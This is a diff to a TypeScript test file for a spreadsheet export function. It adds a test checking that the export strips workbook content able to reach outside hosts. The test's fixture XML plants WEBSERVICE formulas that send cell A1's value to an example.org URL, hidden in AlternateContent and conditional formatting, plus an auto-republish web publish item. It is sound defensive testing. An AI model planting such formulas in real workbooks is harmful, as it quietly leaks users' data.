@@ -1,6 +1,8 @@
 import ExcelJS from 'exceljs'
 import { describe, expect, test } from 'vitest'
-import { bytesOf, exportOf, exportRow, questionnaireOf, reopened, valuesOf } from '../../../../test/support/exports.ts'
+import { bytesOf, collected, exportOf, exportRow, partOf, questionnaireOf, reopened, valuesOf } from '../../../../test/support/exports.ts'
+import { xlsxOfXml } from '../../../../test/uploads/build-files.ts'
+import { printDocument } from '../../../spreadsheets/package/xml-tree.ts'
 import { writeWorkbook } from './workbook.ts'
 
 const definition = questionnaireOf({ fullName: 'input', age: 'numeric', born: 'date' })
@@ -162,6 +164,27 @@ describe('rows below the answer row', () => {
     })
     expect([sheet.getCell('B8').value, sheet.getCell('C8').formula]).toEqual(['stored', 'COUNTA(A4:A6)'])
     expect(JSON.stringify(sheet.model)).not.toContain('example.org')
+  })
+
+  test('lose everything else that could reach outside the workbook', async () => {
+    const outside = 'WEBSERVICE(&quot;https://example.org/?&quot;&amp;$A$1)'
+    const alternative = `<mc:AlternateContent><mc:Choice Requires="x14"><f>${outside}</f></mc:Choice></mc:AlternateContent>`
+    const scale = (value: string) => `<cfvo type="formula" val="${value}"/><color rgb="FFFF0000"/>`
+    const xml = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+        xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><sheetData>
+        <row r="1"><c r="A1" t="inlineStr"><is><t>{{fullName}}</t></is></c></row>
+        <row r="2"><c r="A2">${alternative}<v>7</v></c></row>
+      </sheetData><conditionalFormatting sqref="A2"><cfRule type="colorScale" priority="1"><colorScale>
+        ${scale(outside)}${scale('$A$2+1')}
+      </colorScale></cfRule></conditionalFormatting>
+      <webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="https://example.org/x" autoRepublish="1"/>
+      </webPublishItems></worksheet>`
+    const template = await xlsxOfXml(['People here'], [xml])
+    const bytes = await collected(writeWorkbook(exportOf(template, definition, people)))
+    const sheet = printDocument(await partOf(bytes, 'xl/worksheets/sheet1.xml'))
+    expect(sheet).toContain('<c r="A4"><v>7</v></c>')
+    expect(sheet).toContain('val="$A$4+1"')
+    expect(sheet).not.toContain('example.org')
   })
 
   test('at the bottom of the sheet are left out if they have no content', async () => {
